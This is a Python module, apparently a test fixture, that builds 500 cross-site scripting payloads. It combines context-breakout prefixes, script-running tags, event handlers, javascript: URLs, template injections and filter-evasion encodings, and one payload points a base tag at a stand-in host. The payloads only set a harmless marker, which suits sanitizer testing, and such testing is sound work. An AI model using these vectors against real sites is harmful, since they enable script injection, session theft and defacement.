"""Words that want to be a script, made by a small grammar; each tries to leave its place first.

Whatever comes to run would set `window.ran`, and whatever is drawn would bear the name `zqx`.
"""

from collections.abc import Iterator
from itertools import product
from random import Random

LEAST = 500
RUN = "window.ran=1"
LEAVES = (
    "",
    '"',
    "'",
    "-->",
    "</textarea>",
    "</title>",
    "</script>",
    '">',
    "'>",
    "</style>",
    "]]>",
)
ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<script src=data:,{run}></script>",
    "<img src=zqx onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<details open ontoggle={run}>zqx</details>",
    "<input autofocus onfocus={run}>",
    "<body onload={run}>",
    "<a href=javascript:{run} id=zqx>zqx</a>",
    "<form action=javascript:{run}><button id=zqx>zqx</button></form>",
    "<math><mi xlink:href=javascript:{run}>zqx</mi></math>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=data:,*{{color:red}}>",
    "<style>@import 'data:,';*{{color:red}}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<zqx-element onclick={run}>zqx</zqx-element>",
    "<template><img src=x onerror={run}></template>",
    "<div hx-get=/ hx-trigger=load hx-on::load={run}>zqx</div>",
    "<video><source onerror={run}></video>",
)
ATTRIBUTES = (
    " onmouseover={run} zqx=",
    " autofocus onfocus={run} zqx=",
    " style=animation-name:x onanimationstart={run} zqx=",
    " formaction=javascript:{run} zqx=",
    " hx-on:click={run} zqx=",
)
ADDRESSES = (
    "javascript:{run}",
    "JaVa\tScRiPt:{run}",
    "data:text/html,<script>{run}</script>",
    "//x",
)
TEMPLATES = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<%={run}%>",
    "`${{{run}}}`",
)
WRITTEN = (
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("=", "\n=\n"),
    lambda text: text.replace("<", "<\x00"),
)


def every() -> list[str]:
    """Return 500 of them: each element and attribute once in each place, others by chance."""
    found = list(dict.fromkeys(_all()))
    first = [each for each in found if each in set(_plainly())]
    rest = [each for each in found if each not in set(first)]
    return (first + Random(500).sample(rest, len(rest)))[:LEAST]


def _plainly() -> Iterator[str]:
    """Return each as it is written plainly, out of the two places in which words stand."""
    for each in (*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES):
        yield each.format(run=RUN)
        yield '">' + each.format(run=RUN)


def _all() -> Iterator[str]:
    """Return every sentence of the grammar."""
    yield from _plainly()
    for leaves, each, written in product(LEAVES, ELEMENTS, WRITTEN):
        yield written(leaves + each.format(run=RUN))
    for leaves, each in product(LEAVES, ATTRIBUTES):
        yield leaves + each.format(run=RUN)
